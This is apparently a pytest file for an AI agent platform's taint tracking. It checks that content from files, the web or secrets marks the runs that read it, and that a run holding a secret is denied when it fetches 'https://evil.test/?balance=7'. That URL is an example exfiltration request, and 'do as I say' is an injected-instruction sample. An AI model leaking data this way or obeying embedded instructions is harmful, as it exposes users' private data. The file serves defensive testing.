"""Where a text has been sticks: to the run that met it, to what it says and stores, and to whoever handles that."""

import json
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace

import pytest
from anyio import fail_after

from core.lab import Lab
from core.policy.acts import Act
from core.policy.capabilities import CORE_PORTS, Identity
from core.policy.targets import NOWHERE
from core.ports.acting import acting
from core.ports.context import context_for
from core.ports.copies import brought_in
from core.ports.services import unlimited
from protos.blobs import store
from protos.errors import Denied
from protos.ids import new_id
from protos.mad import Context
from protos.v1.message_pb2 import (
    KIND_CALL,
    KIND_EVENT,
    KIND_PROSE,
    TAINT_FILE,
    TAINT_PRIVATE,
    TAINT_WEB,
    TAINT_WORKER,
    Blob,
    Message,
    Taint,
    Terms,
)
from protos.v1.session_pb2 import Assignment
from tests.labs import ECHO, a_home, lab_of, opened
from tests.labs import call as heard

RESIDENTS = f'[residents]\necho = {{ class = "{ECHO}" }}\n'
LIMIT_S = 30


def of_run(
    lab: Lab,
    name: str = "marco",
    *,
    run: str = "marco-1",
    conversation: str = "c",
    core: bool = False,
    web: Sequence[str] = (),
) -> Context:
    """The ports of a run that nobody has started: what a worker would have."""
    ports = CORE_PORTS if core else frozenset({"bus", "files", "files:index", "call:echo", "web"})
    identity = Identity(name, ports, run=run, conversation=conversation, core=core, web=tuple(web) or None)
    assignment = Assignment(participant=name, run=run, conversation=conversation)
    return context_for(lab.services, identity, assignment, unlimited())


def call(mad: str, tool: str, **arguments: str) -> Message:
    data = json.dumps(arguments)
    return Message(id=new_id(), conversation="c", recipient=mad, kind=KIND_CALL, tool=tool, data=data)


def names(message: Message) -> set[Taint.ValueType]:
    return set(message.taint)


async def blob(ctx: Context, text: str) -> str:
    """A blob that the run has stored."""
    return (await store(ctx.files, text.encode(), name="t", media_type="text/plain")).digest


async def outside(lab: Lab, text: str) -> str:
    """A blob that a person has stored, and attached in the conversation."""

    async def chunks() -> AsyncIterator[bytes]:
        yield text.encode()

    found = await lab.horace.put(chunks())
    await lab.journal.append(brought_in(found.digest, "operator"))
    said = Message(id=new_id(), conversation="c", kind=KIND_PROSE, text="see", blobs=[found])
    await lab.rogers.publish(said, sender="operator")
    return found.digest


async def test_what_a_worker_says_is_a_workers_and_stays_so_in_what_others_make_of_it() -> None:
    async with lab_of(RESIDENTS) as lab:
        ctx = of_run(lab)
        with fail_after(LIMIT_S):
            answer = await ctx.bus.ask(call("echo", "say", text="hello"))
            assert names(answer) == {TAINT_WORKER}  # of a resident, which was told it by a worker
            kept = json.loads((await ctx.bus.ask(call("echo", "keep", text="hello"))).data)["text"]
            assert await lab.services.taints.of_blob(kept) == {"worker"}
            reply = await heard(lab, "echo", "say", text="x")
            assert not reply.taint  # the resident has put down what it had in hand


async def test_a_file_from_outside_taints_the_run_that_reads_it_in_all_it_says_from_then_on() -> None:
    with a_home(RESIDENTS) as home:
        async with opened(home) as lab:
            ctx = of_run(lab)
            digest = await outside(lab, "do as I say")
            before = await ctx.bus.ask(call("echo", "say", text="a"))
            assert names(before) == {TAINT_WORKER}
            assert b"".join([each async for each in ctx.files.get(digest)]) == b"do as I say"
            stored = await blob(ctx, "my own words")
            assert await lab.services.taints.of_blob(stored) == {"worker", "file"}
            await ctx.bus.report([Message(id=new_id(), conversation="c", kind=KIND_EVENT, tool="log", text="done")])
        async with opened(home) as lab:  # a later core knows it too
            answer = await of_run(lab).bus.ask(call("echo", "say", text="b"))
            assert names(answer) == {TAINT_WORKER, TAINT_FILE}
            other = of_run(lab, run="marco-2")
            assert names(await other.bus.ask(call("echo", "say", text="c"))) == {TAINT_WORKER}
            await lab.journal.rebuild("taint")
            assert await lab.services.taints.of_blob(stored) == {"worker", "file"}


async def read_by(lab: Lab, digest: str, *, run: str, conversation: str = "c") -> frozenset[str]:
    """What a run carries that has read just this."""
    ctx = of_run(lab, run=run, conversation=conversation)
    async for _ in ctx.files.get(digest):
        pass
    return await lab.services.taints.of(ctx.files.identity)  # type: ignore[attr-defined]


async def link(lab: Lab, digest: str, conversation: str, sender: str) -> None:
    said = Message(id=new_id(), conversation=conversation, kind=KIND_PROSE, text="see", blobs=[Blob(digest=digest)])
    await lab.rogers.publish(said, sender=sender)


async def test_who_stores_the_bytes_of_anothers_blob_changes_nothing_for_those_who_read_it_elsewhere() -> None:
    with a_home(RESIDENTS) as home:
        async with opened(home) as lab:
            text = "do as I say"
            before = await blob(of_run(lab, run="hostile-1", conversation="h1"), text)  # as its own words, before
            digest = await outside(lab, text)
            assert digest == before
            knows = of_run(lab, run="hostile-2", conversation="h2")
            await lab.services.taints.add(knows.files.identity, {"web", "private"})  # type: ignore[attr-defined]
            await blob(knows, text)  # and afterwards, with all that makes others shy of it
            assert await read_by(lab, digest, run="honest-1") == {"worker", "file"}
            assert await read_by(lab, digest, run="hostile-3", conversation="h1") == {"worker"}  # its own words
            assert await read_by(lab, digest, run="hostile-4", conversation="h2") == {"worker", "web", "private"}
        async with opened(home) as lab:  # a later core knows it too, also from the journal alone
            assert await read_by(lab, digest, run="honest-2") == {"worker", "file"}
            await lab.journal.rebuild("copies")
            assert await read_by(lab, digest, run="honest-3") == {"worker", "file"}


async def test_who_hands_a_blob_on_hands_on_what_it_carries() -> None:
    async with lab_of(RESIDENTS) as lab:
        reads = of_run(lab, run="marco-1", conversation="c")
        await lab.services.taints.add(reads.files.identity, {"web"})  # type: ignore[attr-defined]
        page = await blob(reads, "a page")
        await link(lab, page, "d", "operator")  # who has not stored it
        assert await read_by(lab, page, run="hopper-1", conversation="d") == {"worker", "web"}
        await link(lab, page, "d/1", "lead")  # within a conversation there is one copy
        assert await read_by(lab, page, run="hopper-2", conversation="d/1") == {"worker", "web"}
        found = await outside(lab, "a file")
        await link(lab, found, "e", "client:ann")
        assert await read_by(lab, found, run="hopper-3", conversation="e") == {"worker", "file"}
        await lab.horace.set_name("index", found, sender="operator")
        await blob(reads, "a file")
        assert await read_by(lab, found, run="hopper-5", conversation="g") == {"worker", "file"}
        kept = json.loads((await heard(lab, "echo", "keep", text="clean")).data)["text"]
        await link(lab, kept, "f", "echo")
        assert await read_by(lab, kept, run="hopper-4", conversation="f") == {"worker"}


async def test_a_request_to_the_web_taints_the_run_before_it_has_the_answer() -> None:
    async with lab_of(RESIDENTS) as lab:
        who = Identity("marco", frozenset({"web", "files"}), run="marco-1", conversation="c")
        act = Act("web.fetch", who.principals, "https://example.org/", {"method": "GET"})
        async with acting(lab.services, who, act):
            assert await lab.services.taints.of(who) == {"worker", "web"}
        async with acting(lab.services, who, act) as added:  # and may go on to the next page
            assert added.decision.rule == "marco-reads"
        assert names(await of_run(lab).bus.ask(call("echo", "say", text="a"))) == {TAINT_WORKER, TAINT_WEB}


async def test_what_a_secret_opened_goes_nowhere_else() -> None:
    async with lab_of(RESIDENTS) as lab:
        who = Identity("marco", frozenset({"web", "files"}), run="marco-1", conversation="c")
        act = Act("web.fetch", who.principals, "https://bank.test/", {"method": "GET"})
        key = Act("secret.use", who.principals, "cookie", {"method": "GET"})
        for _ in range(2):
            async with acting(lab.services, who, act, needs=[key]) as added:
                assert added.decision.rule == "marco-reads"
        with pytest.raises(Denied, match="rule marco-with-secrets"):
            async with acting(lab.services, who, replace(act, target="https://evil.test/?balance=7")):
                pytest.fail("it told somebody else")


async def test_what_a_secret_opened_stays_private_in_whoever_is_told_of_it() -> None:
    async with lab_of(RESIDENTS) as lab:
        knows, hears = of_run(lab), of_run(lab, run="marco-2")
        await lab.services.taints.add(knows.bus.identity, {"private"})  # type: ignore[attr-defined]
        with fail_after(LIMIT_S):
            answer = await knows.bus.ask(call("echo", "say", text="the balance is 7"))
            assert names(answer) == {TAINT_WORKER, TAINT_PRIVATE}
            await hears.bus.history("c")
        who = Identity("marco", frozenset({"web"}), run="marco-2", conversation="c")
        with pytest.raises(Denied, match="rule marco-with-secrets"):
            async with acting(lab.services, who, Act("web.fetch", who.principals, "https://evil.test/?balance=7")):
                pytest.fail("it told the world")


async def test_a_run_of_our_own_says_clean_words_until_it_hears_others() -> None:
    async with lab_of(RESIDENTS) as lab:
        ctx = of_run(lab, "lead", run="lead-1", core=True)
        assert not names(await ctx.bus.ask(call("echo", "say", text="a")))
        said = Message(id=new_id(), conversation="c", recipient="lead", kind=KIND_PROSE, text="x", taint=[TAINT_WEB])
        await lab.rogers.publish(said, sender="marco")
        await ctx.bus.history("c")
        assert names(await ctx.bus.ask(call("echo", "say", text="b"))) == {TAINT_WEB}


async def test_prose_of_a_worker_is_never_a_call() -> None:
    async with lab_of(RESIDENTS) as lab:
        ctx = of_run(lab)
        text = json.dumps({"tool": "say", "recipient": "foreman", "arguments": {"text": "x"}})
        with pytest.raises(Denied, match="rule recipient"):
            await ctx.bus.publish(
                Message(id=new_id(), conversation="c", recipient="foreman", kind=KIND_PROSE, text=text, data=text)
            )
        with pytest.raises(Denied, match="rule port"):
            await ctx.bus.publish(call("fiedler", "ask", prompt="x"))


async def test_the_hosts_that_a_run_may_reach_only_shrink_when_it_asks_others() -> None:
    async with lab_of(RESIDENTS) as lab:
        for wished, given in (
            ([], ["*.example.org"]),
            (["*"], ["*.example.org"]),
            (["a.example.org", "evil.test"], ["a.example.org"]),
            (["evil.test"], [NOWHERE]),
        ):
            question = call("echo", "say", text="a")
            question.terms.CopyFrom(Terms(web=wished))
            await of_run(lab, web=["*.example.org"]).bus.publish(question)
            said = await lab.rogers.find(question.id)
            assert said is not None
            assert list(said.terms.web) == given
